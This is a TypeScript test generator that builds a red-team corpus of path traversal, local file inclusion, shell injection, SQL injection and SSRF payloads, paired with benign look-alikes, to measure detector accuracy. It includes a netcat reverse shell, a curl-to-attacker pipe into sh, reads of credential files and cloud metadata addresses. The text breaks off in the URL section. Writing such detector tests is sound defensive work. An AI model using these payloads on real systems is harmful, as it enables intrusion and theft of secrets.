/**
 * `node --import tsx test/eval/redteam.ts [--misses] [--json]`: a generated red-team set for
 * the argument detectors, built from first principles and public payload-list techniques
 * (PayloadsAllTheThings, SecLists, dotdotpwn, libinjection test data, OWASP testing guide),
 * labelled with the corpus README's per-class rules, plus benign look-alikes that real agents
 * send. Prints TPR per kind/class and FPR per kind; `--misses` lists every wrong verdict.
 *
 * Deterministic: no randomness, the set is the cross product of fixed lists. Values are
 * variants the DEV corpus does not hold verbatim; they measure how the detectors generalise.
 */
import { resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { ArgumentKind } from '../../authz/api/types.js';
import { initSqlParser } from '../../authz/detectors/sql.js';
import { measure, type CorpusEntry, type RateRow } from './detection.js';

/** A generated entry; as a corpus line it has `class` (`cls`) and a source of `redteam`. */
export interface RedteamEntry {
  readonly kind: ArgumentKind;
  readonly cls: string;
  readonly label: 'attack' | 'benign';
  readonly value: string;
}

const asCorpusEntry = (e: RedteamEntry): CorpusEntry => ({ value: e.value, kind: e.kind, label: e.label, class: e.cls, source: 'redteam' });

const enc = (s: string): string => [...s].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
const encUpper = (s: string): string => enc(s).toUpperCase();
const fullwidth = (s: string): string => [...s].map((c) => (c >= '!' && c <= '~' ? String.fromCharCode(c.charCodeAt(0) + 0xfee0) : c)).join('');
const altCase = (s: string): string => [...s].map((c, i) => (i % 2 === 0 ? c.toUpperCase() : c.toLowerCase())).join('');

// ---------------------------------------------------------------------------------------
// path

/** Spellings of one "climb one level" step (dot-dot plus separator). */
const TRAVERSAL_STEPS = [
  '../', '..\\', '..%2f', '..%2F', '%2e%2e%2f', '%2E%2E%2F', '%2e%2e/', '.%2e/', '%2e./', '..%5c', '%2e%2e%5c',
  '%252e%252e%252f', '..%252f', '%25252e%25252e%25252f', '..%c0%af', '..%c1%9c', '%c0%ae%c0%ae/', '%c0%ae%c0%ae%c0%af',
  '%e0%80%ae%e0%80%ae/', '%f0%80%80%ae%f0%80%80%ae/', '%uff0e%uff0e/', '%u002e%u002e%u2215', '..%u2216', '..%u002f',
  '0x2e0x2e/', '0x2e0x2e0x2f', '....//', '....\\\\', '...//', '..;/', '..././', '.../.../', '..%00/', '..%01/',
  '\uff0e\uff0e\uff0f', '\uff0e\uff0e/', '..\uff0f', '\u2025/', '..\u2215', '..\\/', '../\\', '.. /', '..%20/',
  '%%32%65%%32%65/', '..%ef%bc%8f', '%ef%bc%8e%ef%bc%8e/', '..\u2216', '%2e%2e%c0%af', '..%25%35%63',
  '\\u002e\\u002e/', '\\x2e\\x2e/', '&#46;&#46;/', '&#x2e;&#x2e;&#x2f;', '..%0d/', '..%09/', '..?/', '..*/',
];
const TRAVERSAL_TARGETS = ['etc/passwd', 'windows/win.ini', 'app/config.yml', 'Windows\\System32\\drivers\\etc\\hosts'];
const TRAVERSAL_PREFIXES = ['', 'images/', '/var/www/html/', 'C:\\inetpub\\wwwroot\\', 'uploads/avatar.png/', './'];

function pathAttacks(out: RedteamEntry[]): void {
  for (const step of TRAVERSAL_STEPS) {
    for (const [t, target] of TRAVERSAL_TARGETS.entries()) {
      const prefix = TRAVERSAL_PREFIXES[t % TRAVERSAL_PREFIXES.length] as string;
      const depth = 1 + (t % 4);
      out.push({ kind: 'path', cls: 'traversal', label: 'attack', value: prefix + step.repeat(depth) + target });
    }
    out.push({ kind: 'path', cls: 'traversal', label: 'attack', value: `docs/${step}${step}secret.txt%00.pdf` });
  }
  const lfi = [
    '/etc/passwd', '/ETC/PASSWD', '/etc//shadow', '//etc/passwd', '/./etc/passwd', '\\etc\\passwd', '/etc/./hosts',
    '/proc/self/environ', '/proc/1/cmdline', '/proc/self/fd/3', '/sys/class/net/eth0/address', '/root/.bash_history',
    '/var/log/nginx/access.log', '/var/log/auth.log', '~/.ssh/id_rsa', '~/.aws/credentials', '$HOME/.kube/config',
    '/home/bob/.ssh/authorized_keys', '/Users/alice/.ssh/id_ed25519', '/var/run/secrets/kubernetes.io/serviceaccount/token',
    'C:\\Windows\\System32\\config\\SAM', 'c:/windows/win.ini', 'C:\\boot.ini', 'c:\\WINDOWS\\repair\\sam', 'C:/Users/bob/NTUSER.DAT',
    'C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Credentials', '\\\\attacker\\share\\x.txt', '\\\\?\\C:\\Windows\\win.ini',
    '\\\\.\\pipe\\srvsvc', '//10.0.0.5/share/file.txt', '\\\\127.0.0.1\\c$\\windows\\win.ini',
    'php://filter/convert.base64-encode/resource=index.php', 'PHP://filter/read=string.rot13/resource=config.php', 'php://input',
    'file:///etc/passwd', 'FILE:///C:/Windows/win.ini', 'file:/etc/hosts', 'expect://id', 'data://text/plain;base64,PD9waHAgc3lzdGVtKCk7Pz4=',
    'data:text/plain,hello', 'zip://uploads/a.zip#shell.php', 'phar://uploads/x.phar/a.txt', 'glob:///var/www/*',
    'compress.zlib:///etc/passwd', 'report.pdf%00.jpg', 'index.php\\x00.png', 'avatar.png%2500', 'notes.txt\u0000.md',
    '%2fetc%2fpasswd', '%252fetc%252fpasswd', '\uff0fetc\uff0fpasswd', '/etc\uff0fshadow', '/proc%2fself%2fenviron',
    ' /etc/passwd', '/etc/passwd ', '/dev/tcp/10.0.0.1/4444', '/boot/grub/grub.cfg', '/root/secrets.txt',
    '%USERPROFILE%\\.ssh\\id_rsa', '/usr/local/etc/php.ini', '/opt/lampp/etc/httpd.conf', '/var/lib/mysql/mysql/user.MYD',
    '/.;/etc/passwd', '/home/user/public_html/wp-config.php', '/srv/www/htdocs/index.php', '/usr/share/nginx/html/index.html',
    '/usr/lib/php/php.ini', '/Applications/MAMP/conf/apache/httpd.conf', '/usr/share/tomcat7/conf/server.xml',
    '/opt/jboss/standalone/configuration/standalone.xml', 'report.txt%0a.pdf', 'notes%0d%0aSet-Cookie:x.txt',
    '%SYSTEMROOT%\\win.ini', '%WINDIR%\\system32\\config\\sam', '%SystemDrive%\\boot.ini', '%HOMEPATH%\\.ssh\\id_rsa', 'upload.php\\000.jpg', 'C:\\PROGRA~1\\Apache\\conf\\httpd.conf', 'c:\\WINDOW~1\\win.ini',
  ];
  for (const v of lfi) out.push({ kind: 'path', cls: 'lfi', label: 'attack', value: v });
}

function pathBenign(out: RedteamEntry[]): void {
  const values = [
    'v1..v2.txt', 'notes..backup.md', 'reports/2024..2025/summary.md', 'a...b.txt', '..hidden-name.txt', 'archive.tar.gz',
    'my file (1).pdf', 'clients/Rock & Roll Ltd/invoice #12.pdf', "O'Brien's notes.docx", '50% off flyer.png', 'résumé final.docx',
    '.gitignore', './src/index.ts', 'src/.eslintrc.json', '.github/workflows/ci.yml', 'docs/etc/readme.md', 'config/etc.yaml',
    '/workspace/app/src/main.ts', '/home/alice/projects/site/index.html', '/srv/share/team/Q3 plan.xlsx', '/data/public/logo.svg',
    'C:\\Users\\alice\\Documents\\taxes 2024.pdf', 'D:\\data\\export.csv', 'src/components/Button.test.tsx', 'a/b/c/d/e/f.txt',
    'photos/2023-08-01 beach.jpg', 'music/AC-DC - Back in Black.mp3', 'build/output.min.js', 'node_modules/.bin/tsc',
    'logs-archive.zip', 'etc.txt', 'proc.md', 'rootfs.img', 'docs/..md', 'C:\\data\\new\\notes.txt', 'temp/x.0xff.bin',
    'dir with  two spaces/file.txt', 'weird;name.txt', 'question?.txt', 'file~1.txt', 'über/straße.txt', '日本語/ファイル.txt',
    'src/lib/v2.0/index.js', '/workspace/my.project/README', 'packages/@scope/pkg/package.json', 'images/icon@2x.png',
    '/home/alice/projects/log-parser/src/main.rs', '/srv/share/2024/Budget_v3.final.xlsx', 'tests/fixtures/sample...txt',
    '/workspace/deploy/etc/nginx/nginx.conf', '/home/alice/projects/app/logs/.gitkeep', '/srv/share/secrets-rotation.md',
    'pages/[...slug].tsx', '~$report.docx', '/Users/alice/Documents/notes.txt', '/tmp/upload-123.png', '/mnt/data/set.csv',
    '/opt/app/config.yaml', '/data/public/rootfs/etc/hostname', '/workspace/docs/proc/overview.md', 'C:\\Users\\alice\\Documents\\logs\\run.txt',
    '/workspace/src/sys/mod.rs', 'D:\\data\\Windows Apps\\setup.exe', '/srv/share/dev/README.md', '/home/alice/projects/boot/loader.c',
    'examples/..foo/bar.txt', 'src/routes/[[...all]].ts', 'x/.well-known/security.txt', '/workspace/.vscode/settings.json',
    '/home/alice/projects/.env.example', '.ssh-config-template.md', 'notes/id_rsa.pub.example.txt',
    '/usr/bin/php', '/usr/local/bin/mysql', '/srv/share/www/index.html', '/home/alice/projects/www/index.html', '/workspace/php/app.php',
    '/usr/share/grafana', '/data/public/a;b/c.txt', '%SystemDrive%\\Users\\alice\\report.docx', '%APPDATA%\\Code\\User\\settings.json',
    'C:\\docs\\lsof\\00QUICKSTART.gz', 'D:\\data\\0day.txt', 'C:\\MYDOCU~1\\notes.txt', 'clients/Rock &amp; Roll/&#38;invoice.pdf', 'C:\\data\\x2e-report.txt',
  ];
  for (const v of values) out.push({ kind: 'path', cls: 'none', label: 'benign', value: v });
}

// ---------------------------------------------------------------------------------------
// shell

const SHELL_BASES = ['report.pdf', '-la', 'file name.txt', '--verbose', 'backup_2024.tar.gz'];
const SHELL_INJECTIONS = [
  ';id', '; id', '|id', '||id', '&&id', '&id', '& whoami', '`id`', '$(id)', '\nid', '\r\nid', '%0aid', '%0Aid', '%0d%0aid',
  '%3bid', '%3Bid', '%7cid', '%26%26id', '%60id%60', '%24(id)', '%24%7bIFS%7d', '%250aid', '\\nid', '\\r\\nid',
  ';cat${IFS}/etc/passwd', ';cat$IFS/etc/passwd', '$(cat</etc/passwd)', ';{cat,/etc/passwd}', '|{nc,-e,/bin/sh,10.0.0.1,4444}',
  '"; id #', "'; id #", "';id;'", '";id;"', "$(echo${IFS}aWQ=|base64${IFS}-d|sh)", '>/tmp/x', '> /dev/null', '< /etc/passwd',
  '2>&1', '>(id)', '<(id)', '<<EOF', ';sleep 5', '|| ping -c 10 127.0.0.1', '& ping -n 10 127.0.0.1 &', '$HOME', '${PATH:0:1}',
  '$@', '$1', "$'\\x3b'id", ';ls -la', '|| curl http://attacker/x|sh', '\tid;', '`sleep${IFS}5`', 'a$(IFS=,;id)',
  '%26id', '%7Cid', '\\x0aid', '\\u000aid', '\\;id', ';\u00a0id',
  ';echo${IFS}TEST', '%0aecho TEST', '|echo TEST', '$(echo TEST)', 'a%0Dsleep 5', "';sleep 5;'", ';${IFS}sleep${IFS}5',
  '| powershell -c Get-Process', '&echo %USERNAME%', '&&type C:\\windows\\win.ini', '||dir', '%u003bid', '%7C%7Cid', '%00%0aid',
  '$((1+1))', '%60whoami%60', '$IFS$9id', "'$(id)'", '"$(id)"', '${@}', 'x;$(printf "\\151\\144")', ';/???/??t /???/p??s??',
  '|/bin/sh -c id', '%3B%20id', '%2526id', '..;id', '-o ProxyCommand=;id', '--output=$(id)', 'test.txt`id`', '\u0026\u0026id',
  '$[1+1]', '$PWD', '; id #', '\r\nid', '%0D%0Aid', '\\073id', 'a\\174id', '\\x3bid', '%5Cx3bid', '%u007cid',
];

function shellAttacks(out: RedteamEntry[]): void {
  for (const [i, inj] of SHELL_INJECTIONS.entries()) {
    const base = SHELL_BASES[i % SHELL_BASES.length] as string;
    out.push({ kind: 'shell', cls: 'cmdi', label: 'attack', value: base + inj });
    out.push({ kind: 'shell', cls: 'cmdi', label: 'attack', value: inj });
  }
  out.push({ kind: 'shell', cls: 'cmdi', label: 'attack', value: '() { :; }; /bin/cat /etc/passwd' });
  out.push({ kind: 'shell', cls: 'cmdi', label: 'attack', value: '() { _; } >_[$($())] { id; }' });
}

function shellBenign(out: RedteamEntry[]): void {
  const values = [
    'my-file_v2.tar.gz', '--output=report.pdf', '-rf', '*.txt', 'file name with spaces.txt', '"quoted name.txt"', "O'Brien.txt",
    "'single quoted.txt'", '50%_off.pdf', '100%', '~/notes.md', 'user@host:/srv/data', 'key=value', 'a,b,c', '[abc].log',
    '{a,b}.txt', 'photo-{1..10}.jpg', '#hashtag', '!important', 'C:\\Users\\alice\\file.txt', 'C:\\new\\notes.txt',
    'file%20name.txt', '--exclude=*.{jpg,png}', '-o=json', 'https://example.com/a?b=c', 'v1.2.3', '--since=2024-01-01',
    'Rock n Roll.mp3', 'QandA.pdf', 'report final.pdf', '-e', 's/foo/bar/g', "'s/a/b/g'",
    '--format=%s', '--date=format:%Y-%m-%d', '%h %s', '^start', 'a.b.c', '@file.txt', '+x', '-n 5', '/tmp/build-output',
    'résumé.pdf', '--color=auto', 'src/**/*.ts', '-I{}', '--name=O\'Neil', 'foo\\ bar.txt', 'x\\\\y', '--regex=^a.*z',
    'path\\to\\file.txt', 'C:\\temp\\report.txt', '%PATH%', 'ls', '-', '--',
    '--max-count=5', '-Xmx512m', '--jobs=4', 'name="John Smith"', "it's", 'a\\b', '--sort=-size', '+%Y-%m-%d',
    '--header=Accept: application/json', '@{u}', 'HEAD~3', 'HEAD^', 'origin/main', 'v1.0..v2.0', '*.{js,ts}', '**/node_modules',
    '[!.]*', '?.txt', 'user:group', '0644', 'u+rwx', 'ssh://git@github.com/x/y.git', 'C:\\Program Files\\App\\app.exe', '\\\\server\\share',
  ];
  for (const v of values) out.push({ kind: 'shell', cls: 'none', label: 'benign', value: v });
}

// ---------------------------------------------------------------------------------------
// sql (whole read-only query)

const SQL_DANGEROUS = [
  'DROP TABLE users', 'delete from orders where 1=1', 'UPDATE accounts SET balance = 0', "INSERT INTO t VALUES (1,'x')",
  'TRUNCATE audit_log', 'ALTER TABLE users ADD COLUMN pwned int', 'GRANT ALL ON users TO public', 'CREATE TABLE x (a int)',
  "COPY (SELECT '') TO PROGRAM 'id'", "copy t from program 'curl http://x'", "SELECT pg_read_file('/etc/passwd')",
  "select pg_catalog.pg_read_file('postgresql.conf')", "SELECT \"pg_sleep\"(5)", 'SELECT PG_SLEEP(5)', "select lo_import('/etc/passwd')",
  "SELECT dblink_connect('host=10.0.0.1')", "SELECT set_config('role','admin',false)", 'EXPLAIN ANALYZE DELETE FROM users',
  'WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d', 'SELECT * INTO backup_users FROM users', 'SELECT sleep(5)',
  'SELECT BENCHMARK(1000000,MD5(1))', "WAITFOR DELAY '0:0:5'", "EXEC xp_cmdshell 'dir'", "exec master..xp_cmdshell 'whoami'",
  "SELECT * FROM OPENROWSET('SQLOLEDB','server=x;uid=sa','select 1')", "SELECT LOAD_FILE('/etc/passwd')",
  "SELECT 1 INTO OUTFILE '/tmp/x'", "select '<?php ?>' into dumpfile '/var/www/x.php'", 'CALL do_thing()',
  "DO $$ BEGIN PERFORM pg_sleep(1); END $$", 'VACUUM FULL', 'SET ROLE postgres', 'SET SESSION AUTHORIZATION postgres',
  'SET TRANSACTION READ WRITE', 'BEGIN', 'COMMIT', "SELECT query_to_xml('delete from t', true, true, '')",
  "select pg_ls_dir('.')", "SELECT pg_terminate_backend(123)", 'LOCK TABLE users IN ACCESS EXCLUSIVE MODE',
  'REFRESH MATERIALIZED VIEW mv', 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', 'PREPARE p AS DELETE FROM t',
  "SELECT * FROM users WHERE id = 1 AND pg_sleep(5) IS NOT NULL", 'SELECT SLEEP(5) FROM dual', "ATTACH DATABASE '/tmp/x.db' AS x",
  'SHUTDOWN', "LOAD DATA INFILE '/etc/passwd' INTO TABLE t", 'REVOKE SELECT ON t FROM bob',
];
const SQL_WRAPPERS: ReadonlyArray<(s: string) => string> = [
  (s) => s,
  (s) => `SELECT name FROM customers WHERE id = 7; ${s}`,
  (s) => `select 1;${s.replaceAll(' ', '/**/')}`,
  (s) => `SELECT 1;\n${altCase(s)}`,
  (s) => `SELECT * FROM t -- report\n;${s};`,
  (s) => `SELECT 'a;b' AS x;\t${s}`,
];

function sqlAttacks(out: RedteamEntry[]): void {
  for (const [i, s] of SQL_DANGEROUS.entries()) {
    out.push({ kind: 'sql', cls: 'sqli', label: 'attack', value: s });
    const wrap = SQL_WRAPPERS[1 + (i % (SQL_WRAPPERS.length - 1))] as (s: string) => string;
    out.push({ kind: 'sql', cls: 'sqli', label: 'attack', value: wrap(s) });
  }
}

function sqlBenign(out: RedteamEntry[]): void {
  const values = [
    "SELECT 'DROP TABLE x' AS note", "SELECT * FROM people WHERE name = 'O''Brien'", 'SELECT 1;', 'SELECT id FROM t -- delete later',
    'SELECT updated_at, deleted FROM posts WHERE deleted = false', 'SELECT "delete" FROM actions', "SELECT * FROM logs WHERE msg LIKE '%; DROP%'",
    'WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval \'7 days\') SELECT count(*) FROM recent',
    'EXPLAIN SELECT * FROM users', 'SELECT sleep_hours FROM health', 'SELECT set_name FROM cards', 'SELECT TOP 10 * FROM sales ORDER BY amount DESC',
    'SELECT `order`, `group` FROM t', 'SELECT DATE_SUB(NOW(), INTERVAL 1 DAY)', 'SELECT * FROM t LIMIT 10 OFFSET 5',
    'SELECT a.id, b.total FROM a JOIN b ON a.id = b.a_id WHERE b.total > 100 UNION SELECT 0, 0', "SELECT 'It''s; fine' AS s",
    '/* weekly report */ SELECT region, sum(total) FROM sales GROUP BY region', 'SELECT rank() OVER (PARTITION BY dept ORDER BY pay) FROM emp',
    "SELECT * FROM products WHERE description ILIKE '%update%'", 'SELECT execute_count, insert_count FROM stats',
    'SELECT COALESCE(a, b) AS c FROM t WHERE c IS NOT NULL', "SELECT * FROM t WHERE tag = 'exec'",
    "SELECT to_char(created_at, 'YYYY-MM-DD') FROM orders", 'SELECT CAST(x AS INTEGER) FROM t', 'SELECT copy_number FROM books',
    'SELECT * FROM "User" WHERE "createdAt" > CURRENT_DATE - 30', 'SELECT 1 AS begin, 2 AS commit',
    'SELECT T1.name FROM singer AS T1 JOIN concert AS T2 ON T1.id = T2.sid WHERE T2.year = 2014 INTERSECT SELECT T1.name FROM singer AS T1',
    'SELECT name FROM a EXCEPT SELECT name FROM b', "SELECT CAST(SUM(IIF(gender = 'F', 1, 0)) AS REAL) * 100 / COUNT(*) FROM patients",
    "SELECT STRFTIME('%Y', birthdate) FROM patients WHERE STRFTIME('%Y', birthdate) = '1990'", 'SELECT `Free Meal Count (K-12)` FROM frpm LIMIT 1',
    "SELECT \"School Name\" FROM schools WHERE \"County\" = 'Alameda'", "SELECT REPLACE(price, ',', '') FROM items",
    "SELECT * FROM t WHERE d BETWEEN '2010-01-01' AND '2010-12-31' ORDER BY d DESC LIMIT 1", 'SELECT GROUP_CONCAT(name) FROM t',
    'SELECT [Name] FROM [dbo].[Users] WHERE [Id] = 1', 'SELECT DATEDIFF(day, a, b) FROM t', 'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r WHERE n < 5) SELECT * FROM r',
    'SELECT * EXCEPT(secret) FROM `project.dataset.table`', 'SELECT id FROM t QUALIFY ROW_NUMBER() OVER (PARTITION BY k ORDER BY ts) = 1',
    "SELECT IFNULL(x, 'n/a') FROM t", 'SELECT user_id, system_name, shell_type FROM hosts', "SELECT * FROM events WHERE type = 'DELETE'",
    'SELECT COUNT(*) FROM master_data', "SELECT * FROM logs WHERE message LIKE '%sleep(%'", 'SELECT "execute" FROM jobs',
    "SELECT name FROM users WHERE name = 'Robert''); DROP TABLE Students;--'", 'SELECT x FROM t WHERE y = 1 ; ', 'select * from t\n-- end',
    'SELECT INSTR(name, \'a\'), SUBSTR(name, 1, 3) FROM t', 'SELECT * FROM t WHERE a <> b AND NOT c', "SELECT DATE('now', '-1 day')",
  ];
  for (const v of values) out.push({ kind: 'sql', cls: 'none', label: 'benign', value: v });
}

// ---------------------------------------------------------------------------------------
// sql-fragment

const FRAGMENT_ATTACKS = [
  "' OR '1'='1", "' or 1=1--", "admin'--", "admin' #", "' UNION SELECT NULL,NULL--", '1 AND SLEEP(5)',
  "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -", "'; WAITFOR DELAY '0:0:5'--", '1;SELECT pg_sleep(5)', "' AND 1=CONVERT(int,@@version)--",
  '1/**/UNION/**/SELECT/**/1,2', '1%20UNION%20SELECT%20password%20FROM%20users', "'||(SELECT version())||'", '" OR ""="', "') OR ('a'='a",
  '1 OR 1=1', '-1 OR 2>1', "1' ORDER BY 3--+", "' AND extractvalue(1,concat(0x7e,version()))--", "' AND 1=(SELECT COUNT(*) FROM users); --",
  '1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64', "' OR 'x' LIKE 'x", "' OR TRUE--", "'/**/OR/**/1=1--",
  '%27%20OR%201%3D1--', "1'+OR+'1'='1", "' oR 1=1 -- ", '1 || 1=1', "' UnIoN SeLeCt username, password FROM users--",
  "' /*!50000UNION*/ /*!50000SELECT*/ 1,2--", "'%09OR%091=1--", "' OR 1=1;%00", "\\' OR 1=1--", '\uff07 OR 1=1--', "' OR 0x31=0x31--",
  '1 AND 1=2', "' AND 'a'='b", "' HAVING 1=1--", "' GROUP BY id HAVING 1=1--", "'; EXEC xp_cmdshell('dir')--", "'; DROP TABLE users--",
  '1); DROP TABLE users--', "' AND IF(1=1,SLEEP(5),0)--", '1 AND (SELECT * FROM (SELECT(SLEEP(5)))bAKL)', "' and 1 in (select @@version)--",
  "'+(select load_file('/etc/passwd'))+'", '1 or benchmark(10000000,MD5(1))#', "' OR EXISTS(SELECT * FROM users)--",
  "1 AND 2 BETWEEN 1 AND 3", "x' AND substr(user(),1,1)='r", "'||pg_sleep(5)--", "1 WAITFOR DELAY '0:0:5'", "' OR 1 --",
  "1' AND 1=1 UNION ALL SELECT 1,NULL,'<script>alert(1)</script>',table_name FROM information_schema.tables WHERE 2>1--/**/; EXEC xp_cmdshell('cat ../../../etc/passwd')#",
  "'\nOR\n1=1\n--", "'\r\nUNION\r\nSELECT 1--", '1\tOR\t1=1', '1 OR 1=1 LIMIT 1', "')) OR 1=1--", "1' AND '1'='1' /*", "' OR ''='",
  "' OR 2 > 1 -- x", '1 AND user()', "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- x", "admin')--", '"; SELECT 1; --',
  "%2527%2520OR%25201%253D1--", "'%20union%20all%20select%201--", "' || '1'='1", "1 AND 'a'<>'b'", "1 XOR 1", "' OR 1 IN (1)--",
  '1 ORDER BY 1--', '-1 UNION SELECT 1,2,3', "' AND 1=0 UNION SELECT table_name FROM information_schema.tables--",
  // Scanner probes (Acunetix/sqlmap/Burp style) and blind forms.
  "-1' OR 2+147-147-1=0+0+0+1 --", "if(now()=sysdate(),sleep(15),0)", "0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z",
  '-1" OR 3*2<(0+5+147-147) --', '1*DBMS_PIPE.RECEIVE_MESSAGE(CHR(99)||CHR(99)||CHR(99),15)',
  "(select(0)from(select(sleep(15)))v)/*'+(select(0)from(select(sleep(15)))v)+'\"+(select(0)from(select(sleep(15)))v)+\"*/",
  "1 waitfor delay '0:0:15' --", "'-SLEEP(5)-'", "' OR SLEEP(5)='", '1 AND 3*2*1=6 AND 111=111', "'+AND+1=1+AND+'a'='a", '1)) AND ((1=1',
  "1' AND 'x'='x", '1" AND "1"="1', "1 AND @@version LIKE '5%'", "1 procedure analyse()", "' AND 1=1#", "admin' or '1'='1'#",
  "1 AND ROW(1,1)>(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)",
  "1;waitfor delay '0:0:5'--", "1' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71))s), 8446744073709551610, 8446744073709551610)))-- x",
  "1' AND GTID_SUBSET(CONCAT(0x71,(SELECT version()),0x71),1)-- x", "1 AND 1=(SELECT 1 FROM pg_sleep(5))", "1' AND 2=2 AND 'b'='b",
  "1%27%20AND%20SLEEP%285%29%23", "1 UNION/*&a=*/SELECT/*&a=*/1,2", "'or''='", '"or""="', "' or 1 like 1 --", "1 or 'a'='a'",
  "'; select * from users; --", "1;SELECT+IF(1=1,SLEEP(5),0)", "' AND 1=CAST((SELECT version()) AS int)--", "' || (SELECT 1 FROM dual) || '",
  '&#39; OR 1=1--', '&#x27; OR &#x27;1&#x27;=&#x27;1', "' \uff2f\uff32 1=1--", '1 \uff35\uff2e\uff29\uff2f\uff2e \uff33\uff25\uff2c\uff25\uff23\uff34 1',
  "admin\" #", "'#", '1 AND MAKE_SET(1=1,1)', 'DROP TABLE users', 'DELETE FROM users', 'UPDATE users SET admin=1',
  'UNI/**/ON SEL/**/ECT', '1 uni/**/on sel/**/ect 1,2', 'GRANT ALL ON accounts TO public', 'CALL proc()', "COPY t FROM '/etc/passwd'", 'INSERT INTO users VALUES (1)', "x' OR username IS NOT NULL OR username = '", "1' OR '1'='1' LIMIT 1 OFFSET 0 --", "' or true#",
];

function fragmentAttacks(out: RedteamEntry[]): void {
  for (const v of FRAGMENT_ATTACKS) out.push({ kind: 'sql-fragment', cls: 'sqli', label: 'attack', value: v });
}

function fragmentBenign(out: RedteamEntry[]): void {
  const values = [
    "O'Brien", 'Rock & Roll', '50% off', "Tom's Diner", "rock 'n' roll", 'Select Comfort mattress', 'union station', 'Union Pacific Railroad',
    'best drop shipping', 'select all', 'AT&T', '2024-01-01', 'John "Johnny" Smith', "It's 5 o'clock", "don't stop", 'a/b', '#1 seller',
    '100% cotton', "Why can't I login?", "where's my order", 'me & you', 'email@example.com', 'drop-down menu', 'delete key', 'insert coin',
    '"Hello," she said.', "L'Oréal", "D'Angelo", 'Order #1234', 'Update: shipping delayed', 'Table for two', 'New York, NY', "Levi's 501",
    '3-2-1 countdown', 'Salt & Pepper', 'Drop Dead Gorgeous', 'Select Sires', 'United Union of Roofers', "Shaquille O'Neal",
    'where to buy', 'and/or', 'either or neither', 'one or two people', 'sleep apnea mask', 'benchmark results 2024', 'version 2.0',
    'C++ primer', 'C# in depth', 'Johnson & Johnson', 'user@domain.com', '(555) 123-4567', 'Q&A', '1/2 cup', '5 > 3',
    "The 'best' pizza", "Joe's Bar & Grill", "it's 100% true", 'from A to B', 'Mary-Kate and Ashley', '1,000', "'90s music",
    "O'Reilly Media", 'Dunkin\' Donuts', 'free shipping; no minimum', 'size: 10-12', 'limit 1 per customer', 'case study',
    "'Round Midnight", "Guns N' Roses", "Ain't No Sunshine", "Don't Stop Believin'", '"Weird Al" Yankovic', "5' 10\"", '6\'2"', '12" pizza',
    'The "Big" Apple', "he said 'yes' or 'no'", "Rock 'n' Roll Hall of Fame", "Children's Place", "Macy's", "Ben & Jerry's",
    'SELECT Comfort', 'Union Square Cafe', 'Order of the Phoenix', 'Drop Table Top Games', 'Insert Coin(s)', 'Exec Suites',
    '1 and a half', 'Y\'all', 'more or less', 'true or false', 'black or white', 'New York; London', "Tom's & Jerry's",
    "O'Brien or O'Neil", 'x = y', 'if and only if', "it's 3 or 4 o'clock", 'Sleep Number bed', 'Benchmark Electronics',
    'Print the current status', 'Use by date', 'Remote Procedure Calling (RPC)', 'Print shop coupons', 'Call of Duty', 'Copy that', 'Delete User', 'Update User', 'Grant Park', 'update your profile', 'Create Account', 'Insert Card',
    "Wendy's #123", "Women's", '--verbose', 'pre-order', 'AC/DC', "Hell's Kitchen", "'", "The Farmer's Daughter (1947)",
  ];
  for (const v of values) out.push({ kind: 'sql-fragment', cls: 'none', label: 'benign', value: v });
}

// ---------------------------------------------------------------------------------------
// url

const INTERNAL_HOSTS = [
  '127.0.0.1', '127.1', '127.0.1', '0x7f000001', '2130706433', '017700000001', '0177.0.0.1', '0x7f.0.0.1', '0x7f.0x0.0x0.0x1',
  '127.000.000.001', '127.127.127.127', '0', '0.0.0.0', '[::1]', '[0:0:0:0:0:0:0:1]', '[::ffff:127.0.0.1]', '[::ffff:7f00:1]',
  '[0:0:0:0:0:ffff:127.0.0.1]', '[::]', '[::127.0.0.1]', '[64:ff9b::7f00:1]', '[fe80::1%25eth0]', '[fd00:ec2::254]', '[::ffff:a9fe:a9fe]',
  '169.254.169.254', '2852039166', '0xa9fea9fe', '0251.0376.0251.0376', '169.254.43518', '100.100.100.200', '100.64.0.1',
  '10.0.0.1', '10.1', '167772161', '172.16.0.1', '172.31.255.255', '192.168.1.1', '192.168.0x1.1', '0xc0a80101',
  'localhost', 'LOCALHOST', 'localhost.', 'sub.localhost', '127.0.0.1.', 'metadata.google.internal', 'metadata', 'instance-data',
  'kubernetes.default.svc', 'kubernetes.default.svc.cluster.local', 'db.internal', 'printer.local', 'intranet',
  '127.0.0.1.nip.io', '10.0.0.1.nip.io', 'app.192.168.1.1.nip.io', 'magic-127-0-0-1.nip.io', '7f000001.nip.io', '169.254.169.254.sslip.io',
  '10-0-0-1.sslip.io', 'localtest.me', 'sub.localtest.me', '127.0.0.1.xip.io', '\uff11\uff12\uff17.\uff10.\uff10.\uff11', '127\u30020\u30020\u30021',
  '\u2460\u2461\u2466.\u24ea.\u24ea.\u2460', '%31%32%37.0.0.1', '127.0.0.1%2enip.io', 'localhost%00.example.com', '0.0.0.0.nip.io',
  '[::ffff:10.0.0.1]', '[2002:7f00:1::]', '[::ffff:0:127.0.0.1]',
  '0x7f.1', '0177.0000.0000.0001', '00000177.0.0.1', '127.0.0.0x1', '[0:0:0:0:0:ffff:7f00:1]', '\u246f\u2468.\u2461\u2464\u2463.\u246f\u2468.\u2461\u2464\u2463',
  'lvh.me', 'localh.st', 'vcap.me', 'app.lvh.me', '[::ffff:127.0.0.1]:80', '127.0.0.1:80', '0000::1', '[0::1]', '[::1%25lo]',
  '169.254.169.254%2f', '192.168.1.1%23.example.com', 'LocalHost', 'localhost%2e', '0.0.0.0:8080', '[fc00::1]', '[ff02::1]',
];
const URL_SHAPES: ReadonlyArray<(h: string) => string> = [
  (h) => `http://${h}/`,
